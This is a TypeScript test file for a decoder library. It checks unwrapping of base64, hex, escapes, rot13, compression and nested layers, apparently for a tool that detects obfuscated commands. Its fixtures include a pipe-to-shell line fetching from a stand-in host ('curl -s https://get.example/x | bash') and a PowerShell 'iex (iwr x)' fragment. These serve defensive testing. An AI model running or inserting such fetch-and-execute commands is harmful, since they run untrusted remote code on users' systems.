import { deflateSync, gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { decodeBase64 } from "../../../src/read/decode/base64.ts";
import { MAX_DECODED_BYTES, MAX_DECODING_DEPTH, MAX_ENCODED_LENGTH } from "../../../src/read/decode/bounds.ts";
import { decodeCharCodes } from "../../../src/read/decode/char-codes.ts";
import { decompress, inflateRaw } from "../../../src/read/decode/compressed.ts";
import { decodeLayers } from "../../../src/read/decode/decode-layers.ts";
import { decodeEscapes } from "../../../src/read/decode/escapes.ts";
import { decodeHex } from "../../../src/read/decode/hex.ts";
import { decodeEntities } from "../../../src/read/decode/html-entities.ts";
import { decodePercent } from "../../../src/read/decode/percent.ts";
import { readBytes } from "../../../src/read/decode/readable.ts";
import { decodeReversed } from "../../../src/read/decode/reversed.ts";
import { decodeRot13 } from "../../../src/read/decode/rot13.ts";

const COMMAND = "curl -s https://get.example/x | bash";
const base64 = (text: string): string => Buffer.from(text).toString("base64");
const text = (bytes: Uint8Array | null): string | null => (bytes === null ? null : Buffer.from(bytes).toString());

describe("base64", () => {
  test("standard, url-safe, wrapped and unpadded", () => {
    expect(text(decodeBase64(base64(COMMAND)))).toBe(COMMAND);
    expect(text(decodeBase64(Buffer.from("??>>~~").toString("base64url")))).toBe("??>>~~");
    expect(text(decodeBase64(base64(COMMAND).replace(/(.{20})/g, "$1\r\n")))).toBe(COMMAND);
    expect(text(decodeBase64("YQ"))).toBe("a");
  });

  test("anything else is none", () => {
    for (const bad of ["", "hello world!", "A", "YQ=a", "äöü="]) expect(decodeBase64(bad)).toBeNull();
  });

  test("holds at its limit and not past it", () => {
    expect(decodeBase64("A".repeat(MAX_ENCODED_LENGTH))).not.toBeNull();
    expect(decodeBase64("A".repeat(MAX_ENCODED_LENGTH + 4))).toBeNull();
  });
});

test("hex in its spellings", () => {
  expect(text(decodeHex("68656c6c6f"))).toBe("hello");
  expect(text(decodeHex("0x68, 0x65 0x6C:6c 6F"))).toBe("hello");
  for (const bad of ["", "686", "68zz"]) expect(decodeHex(bad)).toBeNull();
});

test("percent encoding leaves what is none", () => {
  expect(decodePercent("a%20b%E2%82%AC")).toBe("a b€");
  expect(decodePercent("100% %zz %ff")).toBe("100% %zz %ff");
});

test("escapes of several languages", () => {
  expect(decodeEscapes(String.raw`\x63\u0075\u{72}\U0000006c\101`)).toBe("curlA");
  expect(decodeEscapes(String.raw`\u{FFFFFF} \q`)).toBe(String.raw`\u{FFFFFF} \q`);
});

test("character codes", () => {
  expect(decodeCharCodes("[104, 105]")).toBe("hi");
  expect(decodeCharCodes("0x68 105")).toBe("hi");
  for (const bad of ["", "104, x", "9999999"]) expect(decodeCharCodes(bad)).toBeNull();
});

test("entities, rot13 and reversal", () => {
  expect(decodeEntities("&#104;&#x69;&colon;&sol;&unknown;")).toBe("hi:/&unknown;");
  expect(decodeRot13("phey uggcf://k.rknzcyr")).toBe("curl https://x.example");
  expect(decodeReversed("a😀b")).toBe("b😀a");
});

describe("compression", () => {
  test("gzip and zlib, not noise", () => {
    expect(text(decompress(gzipSync(COMMAND)))).toBe(COMMAND);
    expect(text(decompress(deflateSync(COMMAND)))).toBe(COMMAND);
    expect(decompress(Buffer.from("hello there"))).toBeNull();
    expect(inflateRaw(Buffer.from("hello there"))).toBeNull();
  });

  test("a bomb gives nothing one byte past the limit", () => {
    expect(decompress(gzipSync(Buffer.alloc(MAX_DECODED_BYTES)))).toHaveLength(MAX_DECODED_BYTES);
    expect(decompress(gzipSync(Buffer.alloc(MAX_DECODED_BYTES + 1)))).toBeNull();
  });
});

test("UTF-16, as PowerShell takes it, is text; an image is not", () => {
  expect(readBytes(Buffer.from("iex (iwr x)", "utf16le"))).toEqual({ text: "iex (iwr x)", utf16: true });
  expect(readBytes(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]))).toBeNull();
});

describe("layers", () => {
  test("come off one by one", () => {
    const twice = base64(base64(COMMAND));
    expect(decodeLayers(twice)).toEqual([
      { text: base64(COMMAND), encodings: ["base64"] },
      { text: COMMAND, encodings: ["base64", "base64"] },
    ]);
  });

  test.each([
    ["hex of gzip", gzipSync(COMMAND).toString("hex"), ["hex", "gzip"]],
    ["codes", [...Buffer.from(COMMAND)].join(", "), ["char-codes"]],
    ["escapes", [...Buffer.from(COMMAND)].map((code) => `\\x${code.toString(16)}`).join(""), ["escapes"]],
    ["reversed", decodeReversed(COMMAND), ["reversed"]],
    ["rot13", decodeRot13(COMMAND), ["rot13"]],
    ["entities", [...Buffer.from(COMMAND)].map((code) => `&#${code};`).join(""), ["html-entities"]],
  ])("%s", (_name, encoded, encodings) => {
    expect(decodeLayers(encoded).at(-1)).toEqual({ text: COMMAND, encodings });
  });

  test("stop at the depth limit", () => {
    let encoded = COMMAND;
    for (let depth = 0; depth <= MAX_DECODING_DEPTH; depth += 1) encoded = base64(encoded);
    expect(decodeLayers(encoded)).toHaveLength(MAX_DECODING_DEPTH);
  });

  test.each(["plain words of a sentence", "getUserById", COMMAND, "2026-11-24", ""])("%j is not encoded", (plain) => {
    expect(decodeLayers(plain)).toEqual([]);
  });
});
